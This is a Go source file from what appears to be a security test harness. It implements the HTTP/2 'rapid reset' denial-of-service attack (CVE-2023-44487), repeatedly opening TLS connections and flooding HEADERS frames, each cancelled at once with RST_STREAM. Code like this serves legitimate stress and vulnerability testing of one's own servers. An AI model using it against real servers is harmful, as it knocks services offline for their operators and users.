//go:build attack && linux

package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"testing"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// http2Attacks use frames of HTTP/2.
var http2Attacks = []attack{
	{name: "HTTP/2 rapid reset", secure: true, run: rapidReset},
}

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func rapidReset(ctx context.Context, _ *testing.T, v *victim) {
	repeatAttack(ctx, bodyClients, func(ctx context.Context) {
		plain := v.connection(ctx, attackerAddress)
		if plain == nil {
			return
		}
		conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		defer conn.Close()
		if conn.HandshakeContext(ctx) == nil {
			resetStreams(ctx, conn)
		}
	})
}

// resetStreams sends requests with resets until the server closes the connection or ctx is done.
func resetStreams(ctx context.Context, conn *tls.Conn) {
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	framer := http2.NewFramer(conn, nil)
	_, err := io.WriteString(conn, http2.ClientPreface)
	if err == nil {
		err = framer.WriteSettings()
	}
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "x"}, {Name: ":path", Value: "/evaluate"}} {
		_ = encoder.WriteField(f) // a buffer does not fail
	}
	for id := uint32(1); err == nil && ctx.Err() == nil; id += 2 {
		err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndHeaders: true})
		if err == nil {
			err = framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
	}
}
